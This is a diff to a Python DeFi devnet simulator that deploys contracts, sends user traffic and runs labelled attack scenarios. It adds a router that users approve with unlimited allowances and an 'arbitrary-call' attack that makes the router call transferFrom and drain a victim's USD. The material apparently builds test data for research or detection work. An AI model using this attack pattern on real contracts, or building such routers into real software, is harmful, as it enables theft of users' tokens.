@@ -40,7 +40,7 @@ log = logging.getLogger(__name__)
 
 E18 = 10**18
 MAX = 2**256 - 1
-ATTACKS = ("reentrancy", "oracle", "phishing", "takeover", "mixer")
+ATTACKS = ("reentrancy", "oracle", "phishing", "takeover", "mixer", "arbitrary-call")
 
 
 class Abi:
@@ -81,6 +81,7 @@ class World:
     treasury: str = ""
     mixer: str = ""
     sweeper: str = ""
+    router: str = ""
     victims: list[str] = field(default_factory=list)
 
 
@@ -100,8 +101,8 @@ class Attack:
 class DefiDevnet:
     """Deploys the world, sends its users' traffic, runs the attacks."""
 
-    MIX = (("eth", 0.22), ("token", 0.2), ("swap", 0.2), ("lend", 0.16), ("nft", 0.1), ("bank", 0.07),
-           ("approve", 0.05))
+    MIX = (("eth", 0.18), ("token", 0.2), ("swap", 0.2), ("lend", 0.16), ("nft", 0.1), ("bank", 0.07),
+           ("approve", 0.05), ("router", 0.04))
 
     def __init__(self, rpc: RpcClient, *, seed: int = 11, wallets: int = 60) -> None:
         self.rpc = rpc
@@ -179,8 +180,9 @@ class DefiDevnet:
                               self._tx(d, None, a.deploy("Collectibles"), gas=3_000_000),
                               self._tx(d, None, a.deploy("EtherBank"), gas=3_000_000),
                               self._tx(d, None, a.deploy("Treasury"), gas=3_000_000),
-                              self._tx(d, None, a.deploy("Mixer"), gas=3_000_000)], mine)
-        w.usd, w.gov, w.lender, w.nft, w.bank, w.treasury, w.mixer = (x["contractAddress"] for x in r)
+                              self._tx(d, None, a.deploy("Mixer"), gas=3_000_000),
+                              self._tx(d, None, a.deploy("Router"), gas=3_000_000)], mine)
+        w.usd, w.gov, w.lender, w.nft, w.bank, w.treasury, w.mixer, w.router = (x["contractAddress"] for x in r)
         r = await self._step([self._tx(d, None, a.deploy("Pool", w.gov, w.usd), gas=4_000_000)], mine)
         w.pool = r[0]["contractAddress"]
         r = await self._step([self._tx(d, None, a.deploy("SpotOracle", w.pool), gas=3_000_000)], mine)
@@ -197,14 +199,16 @@ class DefiDevnet:
                self._tx(d, w.treasury, "0x", value=50 * E18)]
         await self._step(txs, mine)
         await self._step([self._tx(d, w.pool, a.call("Pool", "addLiquidity", 100_000 * E18, 100_000 * E18))], mine)
-        # every user: tokens, approvals for the pool and the lending market, a bank deposit for some
+        # every user: tokens, approvals for the pool, the lending market and the router (which users
+        # send their own tokens through), a bank deposit for some
         txs = []
         for u in self.users + self.attackers:
             txs += [self._tx(d, w.usd, a.call("Token", "faucet", u, 5_000 * E18)),
                     self._tx(d, w.gov, a.call("Token", "faucet", u, 5_000 * E18))]
             for token in (w.usd, w.gov):
                 txs += [self._tx(u, token, a.call("Token", "approve", w.pool, MAX)),
-                        self._tx(u, token, a.call("Token", "approve", w.lending, MAX))]
+                        self._tx(u, token, a.call("Token", "approve", w.lending, MAX)),
+                        self._tx(u, token, a.call("Token", "approve", w.router, MAX))]
         for u in self.users[:20]:
             txs.append(self._tx(u, w.bank, a.call("EtherBank", "deposit"), value=2 * E18))
             self._banked.add(u)
@@ -258,6 +262,11 @@ class DefiDevnet:
                 return kind, self._tx(u, w.bank, a.call("EtherBank", "withdraw"), gas=100_000)
             self._banked.add(u)
             return kind, self._tx(u, w.bank, a.call("EtherBank", "deposit"), value=E18 // 10, gas=100_000)
+        if kind == "router":  # a user's own tokens sent on through the router (its intended use)
+            token = rng.choice((w.usd, w.gov))
+            pull = a.call("Token", "transferFrom", u, other, min(amount, 200 * E18))
+            return kind, self._tx(u, w.router, a.call("Router", "execute", token, bytes.fromhex(pull[2:])),
+                                  gas=120_000)
         spender = rng.choice((w.pool, w.lending))
         return kind, self._tx(u, rng.choice((w.usd, w.gov)), a.call("Token", "approve", spender, MAX), gas=60_000)
 
@@ -343,6 +352,19 @@ class DefiDevnet:
                                                value=E18 // 2, gas=3_000_000))
             return Attack(scenario, [d1, wd, dep, h], h, fresh,
                           "a wallet funded only through the mixer deploys an attack contract and drains the bank")
+        if scenario == "arbitrary-call":
+            eoa = self.attackers[1]
+            held, victim = 0, ""
+            others = [u for u in self.users if u not in w.victims]
+            for victim in self.rng.sample(others, len(others)):
+                held = int(await self.rpc.call("eth_call", [{"to": w.usd, "data": a.call("Token", "balanceOf", victim)},
+                                                             "latest"]), 16)
+                if held:  # a user who has USD left (an earlier round may have taken it all)
+                    break
+            pull = a.call("Token", "transferFrom", victim, eoa, held)
+            h = await self._attack_tx(self._tx(eoa, w.router, a.call("Router", "execute", w.usd,
+                                                                     bytes.fromhex(pull[2:])), gas=200_000))
+            return Attack(scenario, [h], h, eoa, "makes the router pull a user's USD with the user's approval of it")
         raise ValueError(f"unknown attack scenario {scenario!r}; known: {', '.join(ATTACKS)}")
 
     async def refill(self) -> None:
